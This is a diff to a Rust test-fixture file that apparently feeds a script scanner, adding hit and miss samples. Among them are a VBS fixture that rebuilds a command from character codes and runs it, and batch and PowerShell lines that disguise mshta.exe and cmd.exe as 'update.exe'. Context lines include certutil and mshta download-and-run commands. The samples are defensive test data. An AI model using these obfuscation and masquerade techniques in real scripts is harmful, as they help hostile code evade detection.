@@ -8,6 +8,7 @@ pub(crate) fn all() -> Vec<Fixture> {
     let mut all = programs();
     all.extend(shortcuts());
     all.extend(scripts());
+    all.extend(copies());
     all.extend(commands());
     all.extend(projects());
     all.extend(pages());
@@ -184,6 +185,14 @@ fn scripts() -> Vec<Fixture> {
         "var t = String.fromCharCode({});\nWScript.Echo(t);\nfunction f(a) {{\n  return a.length;\n}}\n",
         codes.join(",")
     );
+    let listed: Vec<String> = "CreateObject(\"WScript.Shell\").Run \"notepad.exe\""
+        .bytes()
+        .map(|byte| byte.to_string())
+        .collect();
+    let listed = format!(
+        "For Each code In Split(\"{}\")\n  text = text & Chr(code)\nNext\nExecute text\n",
+        listed.join(" ")
+    );
     let carets = "@echo off\ns^e^t a=1\ne^c^h^o %a%\nt^i^m^e^o^u^t /t 1\n";
     let batch = "@echo off\nset day=%date:~0,4%%date:~5,2%%date:~8,2%\nxcopy D:\\data E:\\backup\\%day% ^\n  /s /d\nif %errorlevel% neq 0 echo failed\n";
     vec![
@@ -191,7 +200,14 @@ fn scripts() -> Vec<Fixture> {
         ("findings/script/hit.starts-process.vbs", lines(starts)),
         ("findings/script/hit.downloads.ps1", lines(downloads)),
         ("findings/script/hit.decodes-and-runs.js", lines(decodes)),
+        // Told by the name alone: too short to be told by what stands in it.
+        ("findings/script/hit-named.py", lines("print('hello')\n")),
+        (
+            "findings/script/hit-listed.starts-process.vbs",
+            lines(&listed),
+        ),
         ("findings/script/miss.html", lines(page)),
+        ("findings/script/miss-named.txt", lines("print('hello')\n")),
         ("findings/script/miss.txt", lines(words)),
         ("findings/script-obfuscated/hit.js", lines(&scrambled)),
         ("findings/script-obfuscated/hit.bat", lines(carets)),
@@ -201,6 +217,27 @@ fn scripts() -> Vec<Fixture> {
 }
 
 const HOW_TO: &str = "Dear colleagues,\r\n\r\nsomebody may ask you to run one of these commands:\r\n\r\npowershell -enc VwByAGkAdABlAC0ASABvAHMAdAAgADEA\r\ncertutil -urlcache -split -f http://files.example.invalid/a.txt b.txt\r\nmshta http://files.example.invalid/a.hta\r\n\r\nPlease do not, and call the help desk.\r\n";
+
+/// Tools of Windows that a script gives another name, or copies as they are called.
+fn copies() -> Vec<Fixture> {
+    let linked = "mklink D:\\public\\update.exe C:\\Windows\\System32\\mshta.exe\n";
+    let method = "$tool = 'cert' + 'util.exe'\n[IO.File]::Copy('C:\\Windows\\System32\\cmd.exe', 'D:\\public\\update.exe')\n";
+    let same = "Copy-Item C:\\Windows\\System32\\cmd.exe D:\\winpe\\cmd.exe\n[IO.File]::Copy('setup.exe', 'D:\\setup_2.exe')\n";
+    vec![
+        (
+            "findings/renamed-system-binary/hit-linked.bat",
+            lines(linked),
+        ),
+        (
+            "findings/renamed-system-binary/hit-method.ps1",
+            lines(method),
+        ),
+        (
+            "findings/renamed-system-binary/miss-same-name.ps1",
+            lines(same),
+        ),
+    ]
+}
 
 fn commands() -> Vec<Fixture> {
     let plain = "@echo off\npowershell -NoProfile -File inventory.ps1\nexit /b\n";
